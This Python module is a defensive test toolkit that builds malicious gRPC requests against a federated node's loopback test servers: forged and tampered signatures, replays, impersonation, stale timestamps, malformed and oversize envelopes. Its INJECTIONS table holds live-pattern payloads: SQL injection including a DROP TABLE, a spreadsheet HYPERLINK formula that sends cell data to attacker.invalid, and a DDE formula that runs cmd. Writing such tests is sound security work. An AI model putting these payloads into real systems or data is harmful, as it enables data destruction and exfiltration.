"""The hostile-peer toolkit: build every kind of malicious request a peer could send.

Why: the node's promises (DESIGN §2-§4, §11) are about what it does with requests nobody
honest would send. The tests in ``tests/hostile``, ``tests/fuzz`` and ``tests/faults`` build
those requests here, from a real federation member's :class:`~node.client.PeerClient`, and put
them on the wire as bytes (:func:`deliver`), so what is tested is the server's check of exactly
what arrives.

How a new service joins: nothing to do for the envelope attacks and the fuzzing, which run over
every method a served node registers (:func:`recording_methods` sees them as the server is
built). To give a method a realistic body — one that passes the checks and reaches its handler,
which the injection tests need — add one :class:`~hostile.rows.Row` to
:data:`hostile.rows.ROWS`. The federation the tests run is :mod:`hostile.federation`; both are
re-exported here.

Invariants:
* Every :class:`Attack` names the statuses it may get; none ever allows ``OK``, ``INTERNAL``
  or ``UNKNOWN`` (an unhandled exception in a gRPC handler).
* Loops here are bounded by an explicit count (:func:`until_refused`); channels are on loopback.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

import grpc
from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message

from crypto.envelope import REQUEST_CONTEXT, Header, Sealed, format_time, seal, sha256_hex
from crypto.keys import tls_server_name
from crypto.signing import SigningKey
from enlace.v1 import envelope_pb2, node_pb2
from hostile.federation import (
    AGREEMENT_ID,
    BACKENDS,
    DIRECTORY_PURPOSE,
    FURNISHED,
    HELPER,
    MATCH_PURPOSE,
    STATS_PURPOSE,
    Federation,
    backend_federation,
    databases,
    furnish,
    hostile_agreement,
    in_process,
    install,
    open_federation,
    recording_methods,
)
from hostile.rows import AGGREGATE, BIO_EPOCH, GET_INFO, PING, ROWS, Caller, Row, row_for
from node.client import PeerClient
from node.runtime import NodeRuntime

__all__ = [
    "AGGREGATE",
    "AGREEMENT_ID",
    "ATTACKS",
    "BACKENDS",
    "BIO_EPOCH",
    "DIRECTORY_PURPOSE",
    "FURNISHED",
    "GET_INFO",
    "HELPER",
    "INJECTIONS",
    "MATCH_PURPOSE",
    "NEVER",
    "PING",
    "REFUSALS",
    "ROWS",
    "STATS_PURPOSE",
    "Aim",
    "Attack",
    "Caller",
    "Delivery",
    "Federation",
    "Row",
    "Shot",
    "backend_federation",
    "databases",
    "deliver",
    "fields_signed",
    "furnish",
    "header",
    "hostile_agreement",
    "in_process",
    "injected",
    "install",
    "launch",
    "open_federation",
    "oversize_channel",
    "recording_methods",
    "row_for",
    "signed",
    "text_paths",
    "until_refused",
    "valid",
]

NEVER = frozenset({"OK", "INTERNAL", "UNKNOWN"})
#: Statuses a well-formed but hostile body may get once its envelope is valid.
REFUSALS = frozenset(
    {
        "INVALID_ARGUMENT",
        "PERMISSION_DENIED",
        "NOT_FOUND",
        "FAILED_PRECONDITION",
        "RESOURCE_EXHAUSTED",
    }
)

#: Text that reaches the store: SQL, spreadsheet formulas, NUL, control and very long Unicode.
INJECTIONS: Mapping[str, str] = {
    "sql-drop": "'; DROP TABLE audit_entries; --",
    "sql-tautology": "x' OR '1'='1' --",
    "formula-hyperlink": '=HYPERLINK("http://attacker.invalid/?"&A1,"abrir")',
    "formula-dde": "+cmd|' /C calc'!A0",
    "nul": "PAN\x00CRI",
    "control": "\r\n\t\x1b[31m\x7f",
    "long-unicode": "Ñandú 漢字 🙂 \u202e\u0301 " * 2500,
}


@dataclass(frozen=True)
class Aim:
    """One method of the callee, from ``client``, with a body that would be accepted.
    ``accomplice`` is another member (impersonation, a borrowed TLS channel)."""

    client: PeerClient
    method: str
    body: bytes
    purpose: str = ""
    agreement: str = ""
    streaming: bool = False
    accomplice: NodeRuntime | None = None


@dataclass(frozen=True)
class Shot:
    """What an attack sends: ``prime`` first (the original a replay repeats), then ``sealed``
    to ``route``; ``oversize`` needs a channel that lets an over-limit message out."""

    sealed: Sealed
    route: str
    prime: tuple[Sealed, ...] = ()
    oversize: bool = False


@dataclass(frozen=True)
class Delivery:
    status: str  # "OK" or the gRPC status name
    details: str
    responses: tuple[Sealed, ...] = ()
    request: Sealed | None = None  # what was sent (set by :func:`launch`)


def header(aim: Aim, **changes: Any) -> Header:
    """A fresh request header (new nonce, the caller's time) for ``aim``, with ``changes``."""
    runtime = aim.client.runtime
    made = Header(
        kind="request",
        method=aim.method,
        sender=runtime.config.country,
        recipient=aim.client.peer,
        issued_at=format_time(runtime.clock.now()),
        nonce=os.urandom(16).hex(),
        key_id=runtime.signing_key.key_id,
        body_sha256=sha256_hex(aim.body),
        agreement=aim.agreement,
        purpose=aim.purpose,
    )
    return dataclasses.replace(made, **changes)


def signed(header_bytes: bytes, body: bytes, key: SigningKey) -> Sealed:
    """Sign arbitrary header bytes (well formed or not) the way a real sender would."""
    return Sealed(header_bytes, key.sign(REQUEST_CONTEXT, header_bytes), body)


def valid(aim: Aim) -> Sealed:
    return seal(header(aim), aim.body, aim.client.runtime.signing_key)


def fields_signed(aim: Aim, fields: dict[str, str], body: bytes | None = None) -> Sealed:
    """Header bytes from a field dict (canonical JSON), signed by the caller's real key."""
    raw = json.dumps(fields, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    return signed(raw, aim.body if body is None else body, aim.client.runtime.signing_key)


def _as_dict(aim: Aim, **changes: str) -> dict[str, str]:
    return {k: v for k, v in json.loads(header(aim, **changes).encode()).items()}


def deliver(
    channel: grpc.Channel,
    sealed: Sealed,
    route: str,
    *,
    streaming: bool = False,
    timeout: float = 15.0,
) -> Delivery:
    """Put the bytes on the wire; the status the callee (or the transport) answered."""
    wire = envelope_pb2.Envelope(header=sealed.header, signature=sealed.signature, body=sealed.body)
    encode, decode = envelope_pb2.Envelope.SerializeToString, envelope_pb2.Envelope.FromString
    answers: list[envelope_pb2.Envelope]
    try:
        if streaming:
            stream = channel.unary_stream(
                route, request_serializer=encode, response_deserializer=decode
            )
            answers = list(stream(wire, timeout=timeout))
        else:
            unary = channel.unary_unary(
                route, request_serializer=encode, response_deserializer=decode
            )
            answers = [unary(wire, timeout=timeout)]
    except grpc.RpcError as exc:
        code = exc.code() if isinstance(exc, grpc.Call) else grpc.StatusCode.UNKNOWN
        details = exc.details() if isinstance(exc, grpc.Call) else str(exc)
        return Delivery(code.name, details or "")
    return Delivery(
        "OK", "", tuple(Sealed(bytes(a.header), bytes(a.signature), bytes(a.body)) for a in answers)
    )


def oversize_channel(client: PeerClient) -> grpc.Channel:
    """A channel to the same peer whose send limit is twice the node's receive limit."""
    runtime = client.runtime
    member = runtime.directory.current(runtime.clock.now()).member(client.peer)
    key_pem, cert_pem = runtime.home.keys.load_tls()
    credentials = grpc.ssl_channel_credentials(member.tls_certificates_pem, key_pem, cert_pem)
    limit = runtime.config.max_message_bytes * 2
    options = [
        ("grpc.ssl_target_name_override", tls_server_name(client.peer)),
        ("grpc.max_send_message_length", limit),
        ("grpc.max_receive_message_length", limit),
    ]
    return grpc.secure_channel(client.endpoint, credentials, options=options)


def launch(aim: Aim, attack: Attack) -> Delivery:
    """Build ``attack`` against ``aim`` and send it; the status of its final request."""
    shot = attack.build(aim)
    for sealed in shot.prime:
        deliver(aim.client.channel, sealed, shot.route, streaming=aim.streaming)
    if not shot.oversize:
        sent = deliver(aim.client.channel, shot.sealed, shot.route, streaming=aim.streaming)
    else:
        with oversize_channel(aim.client) as channel:
            sent = deliver(channel, shot.sealed, shot.route, streaming=aim.streaming)
    return dataclasses.replace(sent, request=shot.sealed)


# -- the attacks -----------------------------------------------------------------------------
@dataclass(frozen=True)
class Attack:
    """``reason``: a substring the refusal's details must carry, so an attack refused by the
    wrong check (e.g. a stale request refused for its key's validity, not the time window)
    fails the test."""

    name: str
    expect: frozenset[str]
    build: Callable[[Aim], Shot]
    reason: str
    audited: bool = True  # False: refused by gRPC itself, before the pipeline


def _rogue(aim: Aim, same_id: bool) -> Shot:
    rogue = SigningKey.generate()
    key_id = aim.client.runtime.signing_key.key_id if same_id else rogue.key_id
    return Shot(signed(header(aim, key_id=key_id).encode(), aim.body, rogue), aim.method)


def _accomplice(aim: Aim) -> NodeRuntime:
    if aim.accomplice is None:
        raise ValueError("this attack needs an accomplice member")
    return aim.accomplice


def _borrowed_channel(aim: Aim) -> Shot:
    """The accomplice signs correctly as itself; the request travels on the caller's TLS."""
    other = _accomplice(aim)
    made = header(aim, sender=other.config.country, key_id=other.signing_key.key_id)
    return Shot(seal(made, aim.body, other.signing_key), aim.method)


def _replay(aim: Aim) -> Shot:
    original = valid(aim)
    return Shot(original, aim.method, prime=(original,))


def _tamper(aim: Aim, part: str) -> Shot:
    good = valid(aim)
    if part == "body":
        return Shot(Sealed(good.header, good.signature, good.body + b"\x00"), aim.method)
    if part == "signature":
        flipped = bytes([good.signature[0] ^ 1]) + good.signature[1:]
        return Shot(Sealed(good.header, flipped, good.body), aim.method)
    if part == "truncated":
        return Shot(Sealed(good.header, good.signature[:63], good.body), aim.method)
    nonce = json.loads(good.header)["nonce"]
    changed = good.header.replace(nonce.encode(), os.urandom(16).hex().encode())
    return Shot(Sealed(changed, good.signature, good.body), aim.method)


def _reflected(aim: Aim) -> Shot:
    """A response the callee signed, sent back to it as a request."""
    probe = Aim(aim.client, PING, node_pb2.PingRequest(payload=b"r").SerializeToString())
    answer = deliver(aim.client.channel, valid(probe), PING)
    if not answer.responses:
        raise AssertionError(f"the reflection probe was refused: {answer}")
    return Shot(answer.responses[0], aim.method)


def _shifted(aim: Aim, seconds: int) -> Shot:
    moment = aim.client.runtime.clock.now() + dt.timedelta(seconds=seconds)
    made = header(aim, issued_at=format_time(moment))
    return Shot(seal(made, aim.body, aim.client.runtime.signing_key), aim.method)


def _without(aim: Aim, name: str) -> Shot:
    fields = _as_dict(aim)
    del fields[name]
    return Shot(fields_signed(aim, fields), aim.method)


def _oversize_body(aim: Aim) -> Shot:
    body = b"\x00" * (aim.client.runtime.config.max_message_bytes + 1)
    made = header(aim, body_sha256=sha256_hex(body))
    return Shot(seal(made, body, aim.client.runtime.signing_key), aim.method, oversize=True)


def _garbage_body(aim: Aim) -> Shot:
    body = b"\x0a" + b"\xff" * 10  # a length-delimited field whose length varint never ends
    made = header(aim, body_sha256=sha256_hex(body))
    return Shot(seal(made, body, aim.client.runtime.signing_key), aim.method)


def _other_method(aim: Aim) -> str:
    return GET_INFO if aim.method == PING else PING


def _window(aim: Aim) -> int:
    return aim.client.runtime.config.skew_seconds


_AUTH, _BAD = frozenset({"UNAUTHENTICATED"}), frozenset({"INVALID_ARGUMENT"})


def _SIGNED(aim: Aim, **changes: str) -> Shot:
    """Properly signed by the caller, with ``changes`` to its header."""
    return Shot(seal(header(aim, **changes), aim.body, aim.client.runtime.signing_key), aim.method)


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "forged-signature", _AUTH, lambda a: _rogue(a, same_id=True), "signature does not verify"
    ),
    Attack("unknown-key", _AUTH, lambda a: _rogue(a, same_id=False), "has no signing key"),
    # HND's entry holds no key with the caller's key id, so the key lookup refuses it.
    Attack(
        "impersonation",
        _AUTH,
        lambda a: _SIGNED(a, sender=_accomplice(a).config.country),
        "has no signing key",
    ),
    Attack("borrowed-tls-channel", _AUTH, _borrowed_channel, "is not the one the directory pins"),
    Attack("replayed", _AUTH, _replay, "replayed request"),
    Attack("tampered-body", _AUTH, lambda a: _tamper(a, "body"), "body does not match the signed"),
    Attack("tampered-header", _AUTH, lambda a: _tamper(a, "header"), "signature does not verify"),
    Attack(
        "tampered-signature",
        _AUTH,
        lambda a: _tamper(a, "signature"),
        "signature does not verify",
    ),
    Attack("truncated-signature", _AUTH, lambda a: _tamper(a, "truncated"), "must be 64 bytes"),
    Attack(
        "misaddressed",
        _AUTH,
        lambda a: _SIGNED(a, recipient=_accomplice(a).config.country),
        "request is addressed to 'HND'",
    ),
    Attack(
        "wrong-method-route",
        _AUTH,
        lambda a: _SIGNED(a, method=_other_method(a)),
        "request was signed for",
    ),
    Attack("reflected-response", _AUTH, _reflected, "a response header was sent as a request"),
    # Twice the skew window back (240 s by default), yet inside the caller's key validity
    # (from 5 minutes before the federation's creation): the window refuses it, not the key.
    Attack("stale", _AUTH, lambda a: _shifted(a, -2 * _window(a)), "s apart, the limit is"),
    Attack("future", _AUTH, lambda a: _shifted(a, +3600), "s apart, the limit is"),
    Attack("downgraded-protocol", _BAD, lambda a: _SIGNED(a, v="enlace/0"), "is not supported"),
    Attack("missing-nonce", _BAD, lambda a: _without(a, "nonce"), "header lacks fields: nonce"),
    Attack(
        "missing-issued-at",
        _BAD,
        lambda a: _without(a, "issued_at"),
        "header lacks fields: issued_at",
    ),
    Attack(
        "unknown-header-field",
        _BAD,
        lambda a: Shot(fields_signed(a, {**_as_dict(a), "role": "secretariat"}), a.method),
        "header has unknown fields: 'role'",
    ),
    Attack(
        "non-canonical-header",
        _BAD,
        lambda a: Shot(
            signed(
                json.dumps(_as_dict(a), indent=1).encode(), a.body, a.client.runtime.signing_key
            ),
            a.method,
        ),
        "not in canonical form",
    ),
    Attack(
        "bad-nonce", _BAD, lambda a: _SIGNED(a, nonce="g" * 32), "nonce must be 32 lowercase hex"
    ),
    Attack("oversize-header", _BAD, lambda a: _SIGNED(a, purpose="p" * 5000), "the limit is 4096"),
    Attack(
        "empty-envelope",
        _BAD,
        lambda a: Shot(Sealed(b"", b"", b""), a.method),
        "header is not UTF-8 JSON",
    ),
    Attack(
        "deeply-nested-header",
        _BAD,
        lambda a: Shot(Sealed(b"[" * 2000 + b"]" * 2000, b"\x00" * 64, a.body), a.method),
        "nests too deeply",
    ),
    Attack(
        "lone-surrogate-header",
        _BAD,
        lambda a: Shot(
            signed(
                json.dumps({**_as_dict(a), "purpose": "\ud800"}, sort_keys=True).encode(),
                a.body,
                a.client.runtime.signing_key,
            ),
            a.method,
        ),
        "lone surrogate",
    ),
    Attack("garbage-body", _BAD, _garbage_body, "body: body is not a valid enlace.v1."),
    Attack(
        "oversize-body",
        frozenset({"RESOURCE_EXHAUSTED"}),
        _oversize_body,
        "larger than max",
        audited=False,
    ),
)
assert all(not (a.expect & NEVER) for a in ATTACKS)


# -- injection into text fields --------------------------------------------------------------
def text_paths(descriptor: Any, depth: int = 3) -> list[tuple[str, ...]]:
    """Every string field of a message type, nested messages included (path of field names)."""
    paths: list[tuple[str, ...]] = []
    for f in descriptor.fields:
        if f.type == FieldDescriptor.TYPE_STRING:
            paths.append((f.name,))
        elif f.type == FieldDescriptor.TYPE_MESSAGE and depth > 0:
            paths += [(f.name, *p) for p in text_paths(f.message_type, depth - 1)]
    return paths


def injected(message: Message, path: tuple[str, ...], value: str) -> Message:
    """A copy of ``message`` with ``value`` in the string field at ``path`` (the first element
    of a repeated field, created if empty)."""
    out = type(message)()
    out.CopyFrom(message)
    target: Any = out
    for name in path[:-1]:
        f = target.DESCRIPTOR.fields_by_name[name]
        container = getattr(target, name)
        if f.is_repeated:
            target = container[0] if len(container) else container.add()
        else:
            target = container
    name = path[-1]
    if target.DESCRIPTOR.fields_by_name[name].is_repeated:
        values = getattr(target, name)
        if len(values):
            values[0] = value
        else:
            values.append(value)
    else:
        setattr(target, name, value)
    return out


def until_refused(send: Callable[[], str], limit: int) -> list[str]:
    """Call ``send`` (returns a status) until it is refused or ``limit`` calls were made."""
    statuses: list[str] = []
    while len(statuses) < limit:
        statuses.append(send())
        if statuses[-1] != "OK":
            break
    return statuses
